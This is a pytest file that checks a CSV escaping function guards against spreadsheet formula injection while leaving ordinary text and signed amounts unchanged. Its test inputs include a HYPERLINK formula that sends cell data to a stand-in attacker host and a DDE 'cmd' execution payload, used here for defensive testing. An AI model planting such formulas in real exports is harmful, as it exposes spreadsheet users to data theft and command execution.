from __future__ import annotations

from decimal import Decimal

import pytest

from chairside.rules.interop.csv_safe import escape_cell, to_csv


class TestEscapeCell:
    @pytest.mark.parametrize(
        "text",
        [
            '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1:A2)",
            "\t=1+1",
            "\r=1+1",
        ],
    )
    def test_a_formula_lead_is_prefixed_with_a_quote(self, text: str) -> None:
        assert escape_cell(text) == "'" + text

    @pytest.mark.parametrize("text", ["Ann Lee", "", "12.50", "O'Neil", "a=b"])
    def test_ordinary_text_is_unchanged(self, text: str) -> None:
        assert escape_cell(text) == text

    @pytest.mark.parametrize("text", ["-12.50", "+3", "-7"])
    def test_a_plain_signed_number_stays_a_number(self, text: str) -> None:
        # A signed decimal cannot run a formula; quoting it would turn money into text.
        assert escape_cell(text) == text

    def test_non_text_values_pass_through(self) -> None:
        assert escape_cell(Decimal("-4.00")) == Decimal("-4.00")
        assert escape_cell(3) == 3
        assert escape_cell(None) is None


class TestToCsv:
    def test_every_cell_of_every_row_is_escaped(self) -> None:
        text = to_csv([["name", "value"], ["=HYPERLINK(1)", "@x"]])
        assert text.splitlines() == ["name,value", "'=HYPERLINK(1),'@x"]
